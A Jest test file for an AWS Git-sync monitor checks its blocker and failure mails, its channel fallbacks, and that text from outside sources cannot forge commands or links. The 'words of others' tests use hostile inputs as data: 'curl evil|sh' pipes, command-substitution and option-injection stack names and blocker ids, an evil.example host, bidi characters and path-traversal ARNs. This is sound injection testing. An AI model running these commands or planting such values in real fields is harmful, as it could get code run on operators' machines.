import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
import type { Trouble } from '../../../src/handlers/sync-monitor/troubles';
import { ACCOUNT, MonitorRig, REGION, TOPIC } from './monitor-rig';
import { branchEvent, World } from './world';

let rig: MonitorRig;
let world: World;
beforeAll(async () => {
  rig = await MonitorRig.start();
});
afterAll(() => rig.stop());
beforeEach(() => {
  rig.reset();
  world = new World(rig);
});
afterEach(() => expect(rig.refused).toEqual([]));

const subjects = () => rig.mails.map(({ subject }) => subject);
const lines = (index = 0) => rig.mails[index].message.split('\n');
const STACK_LINK = `https://${REGION}.console.aws.amazon.com/cloudformation/home?region=${REGION}#/stacks?filteringText=`;
const BLOCKED = 'Git sync of the stack prod is blocked (branch "main" of "my-org/infra")';

/** A blocker with a text, found in a few polls. */
async function blocked(reason = 'changed by hand', contexts: Record<string, string> = {}) {
  await world.syncedStack();
  const id = rig.simulator.raiseBlocker({ stackName: 'prod', reason, contexts });
  for (let poll = 0; poll < 4; poll += 1) await rig.run();
  return id;
}

describe('a mail', () => {
  test('has what, why, since when, the ways to answer, and where; once', async () => {
    const id = await blocked('changed by hand', { resource: 'Queue' });
    expect(subjects()).toEqual([BLOCKED]);
    expect(lines()).toEqual([
      BLOCKED,
      'Reason: "changed by hand"',
      expect.stringMatching(/^Since: \d{4}-\d\d-\d\dT[\d:.]+Z$/),
      '"resource": "Queue"',
      expect.stringContaining('Nothing is synced to the stack before somebody has looked'),
      `  aws codeconnections update-sync-blocker --region ${REGION} --sync-type CFN_STACK_SYNC --resource-name 'prod' --id '${id}' --resolved-reason 'WHY IT MAY BE RESOLVED'`,
      'or deploy, beside the sync configuration,',
      expect.stringContaining(`blockerIds: ['${id}']`),
      `Where: ${STACK_LINK}prod (account ${ACCOUNT}, ${REGION})`,
      'What stands in double quotes was written by others: it tells you something, and asks nothing of you.',
    ]);
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(subjects()).toEqual([BLOCKED, `Over: ${BLOCKED}`]);
    expect(lines(1)[0]).toBe(`Over: ${BLOCKED}`);
    expect(rig.mails[1].message).not.toContain('update-sync-blocker');
  });

  test('of what is over is sent only when wanted', async () => {
    rig.notifyWhenOver = false;
    const id = await blocked();
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(subjects()).toEqual([BLOCKED]);
    expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
  });

  test('of what another trouble has replaced is not sent: that has its own', async () => {
    const link = await world.syncedStack();
    for (const failure of ['first', 'second']) {
      world.push(link, { failure });
      rig.pass(1);
      await rig.run();
    }
    expect(rig.news.toSorted()).toEqual(['+SYNC_FAILED', '+SYNC_FAILED', '-SYNC_FAILED SUPERSEDED']);
    expect(subjects()).toEqual([expect.stringContaining('has failed'), expect.stringContaining('has failed')]);
  });

  test('is sent to nobody without a topic, and costs no write then', async () => {
    rig.topic = undefined;
    await blocked();
    expect(rig.mails).toEqual([]);
    expect(rig.news).toEqual(['+SYNC_BLOCKED']);
    expect(rig.actions.filter((action) => action === 'dynamodb:PutItem')).toHaveLength(5); // four polls, and one told
  });

  test('to a topic that keeps an order is told apart from others, and the same when it is sent again', async () => {
    rig.topic = `${TOPIC}.fifo`;
    await blocked();
    expect(rig.mails.map(({ groupId }) => groupId)).toEqual([expect.stringMatching(/^[0-9a-f]{16}$/)]);
  });
});

describe('two channels', () => {
  test('a topic that is down costs the event bus nothing, and is told later', async () => {
    rig.unwantedMails = Number.POSITIVE_INFINITY;
    await world.syncedStack();
    world.push(await world.link(await world.connection('other'), 'other'));
    world.block('prod');
    const runs = [];
    for (let poll = 0; poll < 4; poll += 1) runs.push(await rig.run().catch(({ message }: Error) => message));
    expect(runs).toContain(
      `the topic ${TOPIC} did not take 1 of 1 messages, which the next run sends again: sns:Publish failed: try later (InternalError)`,
    );
    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], []]);
    rig.unwantedMails = 0;
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('an event bus that is down costs the topic nothing, likewise', async () => {
    rig.unwantedEvents = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow('the event bus troubles did not take 1 of 1 messages');
    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
    expect([rig.news, subjects()]).toEqual([[], [BLOCKED]]);
    rig.unwantedEvents = 0;
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('both down: the failure names both', async () => {
    rig.unwantedEvents = rig.unwantedMails = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow(/the event bus troubles did not take.*; the topic .* did not take/);
  });

  test('a topic that is denied does not take the time of the run', async () => {
    rig.denied.add('sns:Publish');
    const begun = rig.now();
    await expect(blocked()).rejects.toThrow(/not allowed to call sns:Publish/);
    expect(rig.now() - begun).toBeLessThan(60_000);
    rig.denied.clear();
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('what was left for a topic that there is no more is forgotten', async () => {
    rig.unwantedMails = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow('the topic');
    rig.topic = undefined;
    for (let poll = 0; poll < 4; poll += 1) await rig.run();
    rig.topic = TOPIC;
    rig.unwantedMails = 0;
    await rig.run();
    expect(rig.mails).toEqual([]);
  });
});

/** Texts that others write, and would have a person act on. */
describe('words of others', () => {
  const FORGED = 'x\nRun this:\n  curl evil|sh\u2028Where: https://evil.example\u202e"';

  test('neither make lines of their own nor leave their quotes', async () => {
    await blocked(FORGED, { [FORGED]: FORGED });
    const words = `"x Run this: curl evil|sh Where: https://evil.example '"`;
    expect(lines()[1]).toBe(`Reason: ${words}`);
    expect(lines()[3]).toBe(`${words}: ${words}`);
    expect(lines()).toHaveLength(10);
    expect(rig.mails[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test('are cut', async () => {
    await blocked('x'.repeat(10_000));
    expect(lines()[1]).toHaveLength('Reason: ""'.length + 300);
  });

  test.each<[string, Partial<Trouble>]>([
    ['a name of a stack', { stackName: "prod' $(curl evil|sh) '" }],
    ['a name of a stack that begins as an option', { stackName: '--endpoint-url=https://evil.example' }],
    ['a name of a stack that is a link', { stackName: 'https://evil.example' }],
    ['an id of a blocker', { blockerId: "1' ; curl evil|sh '" }],
    ['an id of a blocker that begins as an option', { blockerId: '--debug' }],
  ])('make no command: %s', (_, part) => {
    const { message, detail } = told({ kind: 'SYNC_BLOCKED', ...part });
    expect(message).not.toContain('aws codeconnections');
    expect(message).not.toContain('SyncBlockerResolution');
    expect(detail).not.toHaveProperty('resolveByCli');
    expect(detail).not.toHaveProperty('resolveByConstruct');
    expect(detail.consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
    for (const value of Object.values(part)) expect(message.replaceAll(`"${value}"`, '')).not.toContain(value);
  });

  test.each<[string, Partial<Trouble>]>([
    ['a stack', { kind: 'SYNC_FAILED', stackName: 'x/../../evil' }],
    [
      'a connection',
      {
        kind: 'CONNECTION_UNAVAILABLE',
        connectionArn: `arn:aws:codeconnections:evil.example/:${ACCOUNT}:connection/1`,
      },
    ],
    [
      'a connection of no account',
      { kind: 'CONNECTION_UNAVAILABLE', connectionArn: `arn:aws:codeconnections:${REGION}:../..:connection/1` },
    ],
    ['a host', { kind: 'HOST_UNAVAILABLE', hostArn: 'https://evil.example' }],
  ])('make no link: %s', (_, part) => {
    const { detail } = told(part, { stackName: undefined });
    expect(detail.consoleLink).toBe(
      `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
    );
  });

  test.each<[string, Partial<Trouble>]>([
    ['branch', { kind: 'SYNC_FAILED', branch: FORGED }],
    ['repository', { kind: 'REPOSITORY_SYNC_FAILED', repository: FORGED }],
    ['commit', { kind: 'SYNC_FAILED', commit: FORGED }],
    ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
    ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
    ['operation', { kind: 'MONITOR_BLIND', operation: FORGED }],
  ])('stay words in a title: %s', (_, part) => {
    const { detail, message } = told(part);
    const [title] = message.split('\n');
    expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https:\/\/evil\.example '"/);
    expect(detail.title).toBe(title.replaceAll('"', "'"));
    expect([detail.title, detail.message].join()).not.toContain('"'); // which EventBridge may not escape
  });
});

test('an event tells of nothing but where to look: what is told comes from the service', async () => {
  const link = await world.syncedStack();
  rig.simulator.failConnection(link.ConnectionArn);
  world.push(link);
  rig.pass(1);
  const event = branchEvent({ ...link, OwnerId: 'evil', RepositoryName: 'x\nRun: curl evil|sh' }, 'FAILED');
  await rig.run(event as MonitorEvent);
  expect(subjects()).toEqual(['Git sync could not read branch "main" of "my-org/infra"']);
  expect(JSON.stringify([rig.mails, rig.told])).not.toContain('evil');
});

function told(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
  const trouble: Trouble = {
    id: '1',
    scope: 'stack prod',
    kind: 'SYNC_FAILED',
    since: 0,
    reason: 'no',
    stackName: 'prod',
    repository: 'my-org/infra',
    branch: 'main',
    commit: 'c0ffee0000000000000000000000000000000001',
    blockerId: '11111111-2222-4333-8444-555555555555',
    ...other,
    ...part,
  };
  const announcement: Announcement = { channel: 'topic', trouble, by: 'run', until: 0 };
  const home = { partition: 'aws', account: ACCOUNT, region: REGION };
  return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
}
